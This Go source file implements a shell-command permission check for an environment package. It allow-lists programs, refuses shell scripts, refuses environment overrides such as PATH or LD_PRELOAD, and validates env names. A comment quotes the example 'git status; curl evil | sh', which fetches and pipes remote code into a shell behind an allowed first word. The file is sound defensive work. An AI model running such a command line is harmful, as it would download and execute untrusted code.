package env

import (
	"fmt"
	"slices"
	"strings"
)

// Check reports whether p permits cmd: nil, or an *Error (Op "exec", Path
// the command's Display) wrapping ErrAccessDenied that says why not, or
// ErrInvalidRequest for a malformed command.
//
// With AllowExecute false nothing runs. With a non-empty AllowedPrograms
// only program commands whose Program is exactly one of them run: every
// shell script is refused (its first word proves nothing about what it
// runs: "git status; curl evil | sh" starts with git), and so is any
// environment override (PATH or LD_PRELOAD would change what the allowed
// name executes).
func (p ShellPolicy) Check(cmd Command) error {
	deny := func(format string, a ...any) error {
		return &Error{Op: "exec", Path: cmd.Display(), Err: wrapf(ErrAccessDenied, format, a...)}
	}
	if !p.AllowExecute {
		return deny("the shell policy does not allow running commands")
	}
	if (cmd.Script == "") == (cmd.Program == "") {
		return &Error{Op: "exec", Path: cmd.Display(), Err: wrapf(ErrInvalidRequest, "a command is either a shell script or a program, not both or neither")}
	}
	if len(p.AllowedPrograms) == 0 {
		return nil
	}
	allowed := strings.Join(p.AllowedPrograms, ", ")
	if cmd.Script != "" {
		return deny("only the programs %s may run, each as a program with literal arguments; shell scripts are refused "+
			"(a script's first word proves nothing about what it runs)", allowed)
	}
	if !slices.Contains(p.AllowedPrograms, cmd.Program) {
		return deny("%q is not one of the allowed programs (%s)", cmd.Program, allowed)
	}
	if len(cmd.Env) > 0 {
		return deny("environment overrides are refused when only some programs may run " +
			"(they could change which executable runs or how it loads)")
	}
	return nil
}

// checkEnv refuses environment names and values a process cannot carry.
func checkEnv(cmd Command) error {
	for k, v := range cmd.Env {
		if k == "" || strings.ContainsAny(k, "=\x00") || strings.ContainsRune(v, 0) {
			return &Error{Op: "exec", Path: cmd.Display(), Err: wrapf(ErrInvalidRequest,
				"%s is not a valid environment variable (a name without '=' or NUL, a value without NUL)", fmt.Sprintf("%q", k))}
		}
	}
	return nil
}
